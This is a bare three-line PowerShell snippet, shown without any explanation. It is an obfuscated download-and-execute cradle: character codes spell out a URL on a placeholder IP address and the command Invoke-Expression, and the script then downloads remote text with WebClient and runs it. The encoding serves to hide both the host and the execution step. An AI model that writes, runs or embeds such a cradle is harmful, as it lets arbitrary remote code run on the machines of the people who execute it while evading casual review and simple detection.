$u = -join ([char[]](104,116,116,112,58,47,47,49,57,50,46,48,46,50,46,49,48,47,120));
$c = [char]73+[char]69+[char]88;
& $c ((New-Object Net.WebClient).DownloadString($u))
